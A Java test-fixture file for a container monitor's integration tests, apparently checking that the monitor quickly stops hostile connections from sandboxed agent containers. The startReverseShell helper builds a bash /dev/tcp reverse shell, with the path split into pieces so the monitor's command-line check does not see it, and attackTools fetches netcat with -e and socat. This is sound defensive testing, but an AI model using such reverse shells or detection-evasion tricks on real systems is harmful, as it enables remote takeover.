package coi.monitor;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import coi.incus.ExecRequest;
import coi.incus.IncusClient;
import coi.incus.Model;
import coi.network.TestHosts;
import coi.testing.Sandbox;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.BooleanSupplier;
import java.util.function.Predicate;
import java.util.function.Supplier;

/** What the monitor's integration tests share: attack tools, waiting, reading the audit log and the hold log. */
final class MonitorFixtures {
    private MonitorFixtures() {}

    /**
     * socat, netcat-traditional (with -e) and Python's full standard library (python3-minimal has
     * no pty module) as .debs from the Debian registry, installed inside with dpkg; git for the
     * ordinary workload (its other dependencies are in the test image, and a file:// clone needs none of
     * its optional ones).
     */
    static Path attackTools() throws Exception {
        Path dir = Path.of(System.getProperty("java.io.tmpdir"), "coitest-mon-debs");
        Files.createDirectories(dir);
        try (var files = Files.list(dir)) {
            if (files.filter(f -> f.toString().endsWith(".deb")).count() >= 8) return dir;
        }
        Process p = new ProcessBuilder("apt-get", "download", "socat", "netcat-traditional", "libwrap0", "libnsl2", "libtirpc3", "libtirpc-common",
                "libpython3.11-stdlib", "git").directory(dir.toFile())
                .redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes());
        if (p.waitFor() != 0) fail("apt-get download of the attack tools failed: " + out);
        return dir;
    }

    /** Runs a command in the container as {@code uid}, without a terminal and with no coi attached. */
    static void inside(IncusClient incus, String container, int uid, String script) {
        var r = incus.execCapture(container, new ExecRequest(List.of("bash", "-c", script), Map.of("HOME", uid == 0 ? "/root" : "/home/code"),
                uid, uid, "/workspace"));
        if (r.exitCode() != 0 && r.exitCode() != 1) fail("`" + script + "` in " + container + " failed: " + r.exitCode() + " " + r.err());
    }

    /**
     * A detached bash /dev/tcp reverse shell to the hold host as code: the monitor must stop the
     * container within a second of the connection (printed as "monitor response: LABEL ...").
     */
    static void reverseShellIsStopped(IncusClient incus, TestHosts hosts, String container, String label) throws Exception {
        TestHosts.assertRoutedLocally();
        startReverseShell(incus, container);
        awaitGone(incus, container, 10);
        List<Double> closed = closed(hosts.holdLog);
        assertThat(closed).hasSize(1);
        System.out.printf("monitor response: %-14s connection stopped after %.3f s%n", label, closed.getFirst());
        assertThat(closed.getFirst()).isLessThan(1.0);
    }

    /**
     * Starts a detached bash /dev/tcp reverse shell to the hold host as code, from a script whose
     * command line does not give it away: the monitor also reads every process at its exec, and a
     * command line naming /dev/tcp would be stopped there, before it connects, leaving nothing to
     * time. The script is written without that text in any command line either.
     */
    static void startReverseShell(IncusClient incus, String container) {
        inside(incus, container, 1000, "d=/dev; t=tcp; echo \"bash -i >& $d/$t/" + TestHosts.INTERNET.getFirst() + "/"
                + TestHosts.HOLD_PORTS.getFirst() + " 0>&1\" > /tmp/coitest-rs.sh && setsid -f bash /tmp/coitest-rs.sh");
    }

    /** Seconds each held connection lived, in the order they ended. */
    static List<Double> closed(Path holdLog) throws IOException {
        List<Double> out = new ArrayList<>();
        if (!Files.exists(holdLog)) return out;
        for (String line : Files.readAllLines(holdLog)) {
            String[] f = line.split(" ");
            if (f[0].equals("closed")) out.add(Double.parseDouble(f[2]));
        }
        return out;
    }

    /** Every audit event of the sandbox's containers. */
    static List<AuditEvent> audit(Sandbox box) {
        AuditLog log = AuditLog.under(box.home.resolve(".coi"));
        List<AuditEvent> all = new ArrayList<>();
        for (String c : log.containers()) all.addAll(log.read(c));
        return all;
    }

    /** The address of incusbr0 on the host, where TestHosts puts its host-side listener. */
    static String gateway(IncusClient incus) {
        return incus.networks().stream().filter(n -> n.name().equals("incusbr0")).findFirst().orElseThrow()
                .config().get("ipv4.address").replaceAll("/.*", "");
    }

    static void awaitAudit(Sandbox box, Predicate<AuditEvent> wanted, int seconds) throws InterruptedException {
        await(() -> audit(box).stream().anyMatch(wanted), seconds, () -> "no such audit event: " + audit(box));
    }

    static void awaitGone(IncusClient incus, String name, int seconds) throws InterruptedException {
        await(() -> incus.findInstance(name).map(i -> !i.running() && !"Frozen".equals(i.status())).orElse(true), seconds,
                () -> name + " still runs");
    }

    static void awaitStatus(IncusClient incus, String name, String status, int seconds) throws InterruptedException {
        await(() -> incus.findInstance(name).map(Model.Instance::status).orElse("").equals(status), seconds,
                () -> name + " is not " + status + ": " + incus.findInstance(name).map(Model.Instance::status));
    }

    static void awaitFile(Path file, int seconds) throws InterruptedException {
        await(() -> Files.exists(file), seconds, () -> file + " did not appear");
    }

    static void await(BooleanSupplier done, int seconds, Supplier<String> failure) throws InterruptedException {
        coi.testing.Await.until(done, seconds, failure);
    }

    static void bigFile(Path file, int mib) throws IOException {
        byte[] block = new byte[1024 * 1024];
        new java.util.Random(1).nextBytes(block);
        try (OutputStream out = Files.newOutputStream(file)) {
            for (int i = 0; i < mib; i++) out.write(block);
        }
    }

    /** A small Python project with a test, as an agent would build and test. */
    static void smallProject(Path dir) throws IOException {
        Files.writeString(dir.resolve("calc.py"), "def add(a, b):\n    return a + b\n\ndef mul(a, b):\n    return a * b\n");
        Files.writeString(dir.resolve("test_calc.py"), """
                import unittest
                import calc

                class CalcTest(unittest.TestCase):
                    def test_add(self):
                        self.assertEqual(calc.add(2, 3), 5)

                    def test_mul(self):
                        self.assertEqual(calc.mul(2, 3), 6)
                """);
    }

    /** A bare repository at {@code bare} whose branch main has one commit ("seed") holding {@code file}, made with the host's git. */
    static void gitRepository(Path bare, Path file) throws IOException, InterruptedException {
        Path seed = Files.createTempDirectory("coitest-seed");
        Files.copy(file, seed.resolve(file.getFileName()));
        for (List<String> git : List.of(List.of("init", "-q", "--bare", "-b", "main", bare.toString()), List.of("-C", seed.toString(), "init", "-q", "-b", "main"),
                List.of("-C", seed.toString(), "add", "."),
                List.of("-C", seed.toString(), "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "seed"),
                List.of("-C", seed.toString(), "push", "-q", bare.toString(), "main"))) {
            List<String> argv = new ArrayList<>(List.of("git"));
            argv.addAll(git);
            Process p = new ProcessBuilder(argv).redirectErrorStream(true).start();
            String said = new String(p.getInputStream().readAllBytes());
            if (p.waitFor() != 0) throw new IllegalStateException(argv + " failed: " + said);
        }
    }
}
